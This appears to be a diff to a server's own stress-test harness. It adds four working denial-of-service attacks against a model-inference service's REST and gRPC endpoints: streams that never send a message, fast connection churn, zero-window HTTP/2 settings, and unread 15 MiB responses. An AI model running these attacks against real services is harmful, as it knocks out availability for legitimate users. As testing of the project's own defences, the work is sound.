@@ -56,8 +56,20 @@ Attacks (each reproduces a defect a hostile-input pass found):
   message-less streams (gRPC was served 4 times in 5 s);
 * ``churning-streams``: 40 connections opening 8 message-less streams each, closed and
   reopened every second (a full waiting room dropped legitimate calls: RESOURCE_EXHAUSTED);
+* ``prompt-waiters``: 4 connections, each sending one tiny valid message at once (so it counts
+  as prompt), then 31 message-less streams, again once they have all ended: a full waiting room
+  drops the waiters of connections that are not prompt first, so a new legitimate connection's
+  call is dropped (RESOURCE_EXHAUSTED) in favour of the attackers' dozens of waiting streams;
+* ``churning-streams-fast``: 80 connections opening 32 message-less streams each, closed and
+  reopened every 0.2 s (legitimate gRPC calls wait behind the churned calls and are cancelled);
 * ``pipeline-no-read``: two REST connections pipelining requests without reading an answer
   (everything they sent was buffered; then other clients' p99 grew 54x);
+* ``unread-rest-answers``: REST connections each sending one request whose answer is 15 MiB
+  (binary output) and never reading it, a new one every 0.3 s, up to 24 (the answer leaves the
+  byte budget once written to the connection's buffer: memory beyond the budget);
+* ``unread-grpc-answers``: 2 HTTP/2 connections announcing SETTINGS_INITIAL_WINDOW_SIZE 0, so
+  the server may send no answer DATA, each completing 8 ModelInfer calls of 15 MiB (each answer
+  stays in grpc's send buffers, outside the budget, for as long as the connection lives);
 * ``idle-connections``: 256 idle REST and 900 idle gRPC connections (HTTP/2 preface sent, so
   grpc keeps them until idle_timeout; once filled REST's connection cap and ran the process out
   of file descriptors);
@@ -788,6 +800,79 @@ def attack_churning_streams(a: Attack) -> None:
     a.stop.wait()
 
 
+def attack_prompt_waiters(a: Attack, connections: int = 4, streams: int = 31) -> None:
+    """*connections* raw HTTP/2 connections, each in a loop: one tiny valid ModelInfer sent at
+    once (its connection is then prompt), then *streams* ModelInfer streams that never send
+    their message; when they have all ended, again."""
+    from enclave_build.model_server import protocol as pb
+    from tests.h2_client import H2Connection
+
+    req = pb.ModelInferRequest(model_name="fast")
+    req.inputs.add(name="x", datatype="FP32", shape=[1, 2])
+    req.raw_input_contents.append(X.tobytes())
+    raw = req.SerializeToString()
+
+    def ended(ids: set[int]):
+        def check(frames) -> bool:
+            done = {
+                f.stream_id
+                for f in frames
+                if type(f).__name__ == "RstStreamFrame"
+                or (type(f).__name__ == "HeadersFrame" and "END_STREAM" in f.flags)
+            }
+            return a.stop.is_set() or ids <= done
+
+        return check
+
+    def connection() -> None:
+        while not a.stop.is_set():
+            try:
+                conn = H2Connection(a.grpc)
+                sid = 1
+                while not a.stop.is_set() and not conn.closed:
+                    conn.open_stream(sid)
+                    conn.send_message(sid, raw)
+                    conn.read_frames(2.0, until=ended({sid}))
+                    ids = set(range(sid + 2, sid + 2 + 2 * streams, 2))
+                    for stream in sorted(ids):
+                        conn.open_stream(stream)
+                    sid += 2 + 2 * streams
+                    frames: list = []
+                    done = ended(ids)
+                    while not done(frames) and not conn.closed:
+                        frames += conn.read_frames(0.5, until=done)
+                conn.close()
+            except OSError:
+                time.sleep(0.1)
+
+    _threads(connections, connection)
+    time.sleep(1.0)
+    a.ready.set()
+    a.stop.wait()
+
+
+def attack_churning_streams_fast(a: Attack) -> None:
+    """80 connections each opening 32 ModelInfer streams that never send a message, closing
+    after 0.2 s and opening again."""
+    from tests.h2_client import H2Connection
+
+    def churn() -> None:
+        while not a.stop.is_set():
+            try:
+                conn = H2Connection(a.grpc)
+                for stream in range(1, 64, 2):
+                    conn.open_stream(stream)
+                conn.read_frames(0.2)
+                conn.close()
+            except OSError:
+                time.sleep(0.05)
+
+    _threads(80, churn)
+    time.sleep(0.5)
+    a.ready.set()
+    a.stop.wait()
+
+
 def attack_pipeline_no_read(a: Attack) -> None:
     """Two REST connections pipelining infer requests as fast as they can with a tiny receive
     buffer, never reading an answer."""
@@ -810,6 +895,135 @@ def attack_pipeline_no_read(a: Attack) -> None:
                 time.sleep(0.05)
 
     _threads(2, flood)
+    a.stop.wait()
+
+
+def _large_answer_request() -> bytes:
+    """A REST request to ``fast`` with 15 MiB of binary input, its answer asked in binary (as
+    large)."""
+    x = np.zeros(((MAX_REQUEST - (1 << 20)) // 8, 2), np.float32)
+    head = {
+        "inputs": [
+            {
+                "name": "x",
+                "datatype": "FP32",
+                "shape": list(x.shape),
+                "parameters": {"binary_data_size": x.nbytes},
+            }
+        ],
+        "outputs": [{"name": "y", "parameters": {"binary_data": True}}],
+    }
+    return _binary_request("fast", head, x.tobytes())
+
+
+def attack_unread_rest_answers(a: Attack) -> None:
+    """REST connections (4 KiB receive buffers) each sending one request whose answer is 15
+    MiB and never reading it; a new one every 0.3 s, at most 24 held."""
+    request = _large_answer_request()
+    socks: list[socket.socket] = []
+    while not a.stop.is_set() and len(socks) < 24:
+        try:
+            s = socket.socket()
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            s.connect(a.rest)
+            s.sendall(request)
+            socks.append(s)
+        except OSError:
+            pass
+        a.say(f"{len(socks)} connections with an unread 15 MiB answer")
+        if len(socks) >= 4:
+            a.ready.set()
+        a.stop.wait(0.3)
+    a.ready.set()
+    a.stop.wait()
+    for s in socks:
+        s.close()
+
+
+def attack_unread_grpc_answers(a: Attack, connections: int = 2, streams: int = 8) -> None:
+    """*connections* raw HTTP/2 connections announcing SETTINGS_INITIAL_WINDOW_SIZE 0 (the server
+    may send no DATA on their streams until they say so, and they never do), each sending
+    *streams* complete ModelInfer requests of 15 MiB; the answers are never read."""
+    import h2.config
+    import h2.connection
+    import h2.events
+    import h2.settings
+
+    from enclave_build.model_server import protocol as pb
+
+    x = np.zeros(((MAX_REQUEST - (1 << 20)) // 8, 2), np.float32)
+    req = pb.ModelInferRequest(model_name="fast")
+    req.inputs.add(name="x", datatype="FP32", shape=list(x.shape))
+    req.raw_input_contents.append(x.tobytes())
+    message = req.SerializeToString()
+    framed = b"\x00" + len(message).to_bytes(4, "big") + message
+    host, port = a.grpc.rsplit(":", 1)
+    headed = [0]
+    lock = threading.Lock()
+
+    def connection() -> None:
+        while not a.stop.is_set():
+            try:
+                sock = socket.create_connection((host, int(port)), timeout=5)
+                conn = h2.connection.H2Connection(
+                    h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+                )
+                conn.local_settings = h2.settings.Settings(
+                    client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
+                )
+                conn.initiate_connection()
+                sent: dict[int, int] = {}
+                for _ in range(streams):
+                    stream = conn.get_next_available_stream_id()
+                    conn.send_headers(
+                        stream,
+                        [
+                            (":method", "POST"),
+                            (":scheme", "http"),
+                            (":authority", "localhost"),
+                            (":path", "/inference.GRPCInferenceService/ModelInfer"),
+                            ("content-type", "application/grpc"),
+                            ("te", "trailers"),
+                        ],
+                    )
+                    sent[stream] = 0
+                sock.sendall(conn.data_to_send())
+                sock.settimeout(0.05)
+                while not a.stop.is_set():
+                    for stream, done in list(sent.items()):  # as far as the server's windows allow
+                        while done < len(framed):
+                            room = min(
+                                conn.local_flow_control_window(stream), conn.max_outbound_frame_size
+                            )
+                            if room <= 0:
+                                break
+                            chunk = framed[done : done + room]
+                            done += len(chunk)
+                            conn.send_data(stream, chunk, end_stream=done >= len(framed))
+                        if done >= len(framed):
+                            del sent[stream]
+                        else:
+                            sent[stream] = done
+                    sock.sendall(conn.data_to_send())
+                    try:
+                        data = sock.recv(65536)
+                    except TimeoutError:
+                        continue
+                    if not data:
+                        break
+                    for event in conn.receive_data(data):
+                        if isinstance(event, h2.events.ResponseReceived):
+                            with lock:
+                                headed[0] += 1
+                                a.say(f"{headed[0]} answers of 15 MiB begun, never read")
+                        elif isinstance(event, h2.events.StreamReset):
+                            sent.pop(event.stream_id, None)
+                    sock.sendall(conn.data_to_send())
+                sock.close()
+            except Exception:  # noqa: BLE001 - h2 protocol errors too: start again
+                time.sleep(0.2)
+
+    _threads(connections, connection)
     a.stop.wait()
 
 
@@ -923,7 +1137,11 @@ ATTACKS = {
     "message-less-streams": attack_message_less_streams,
     "kept-rooms": attack_kept_rooms,
     "churning-streams": attack_churning_streams,
+    "prompt-waiters": attack_prompt_waiters,
+    "churning-streams-fast": attack_churning_streams_fast,
     "pipeline-no-read": attack_pipeline_no_read,
+    "unread-rest-answers": attack_unread_rest_answers,
+    "unread-grpc-answers": attack_unread_grpc_answers,
     "idle-connections": attack_idle_connections,
     "idle-over-grpc-cap": attack_idle_over_grpc_cap,
     "slow-model-flood": attack_slow_model_flood,
@@ -950,6 +1168,9 @@ SIGNALS_READY = {
     "message-less-streams",
     "kept-rooms",
     "churning-streams",
+    "prompt-waiters",
+    "churning-streams-fast",
+    "unread-rest-answers",
     "idle-connections",
     "idle-over-grpc-cap",
     "tls-handshake-stall",
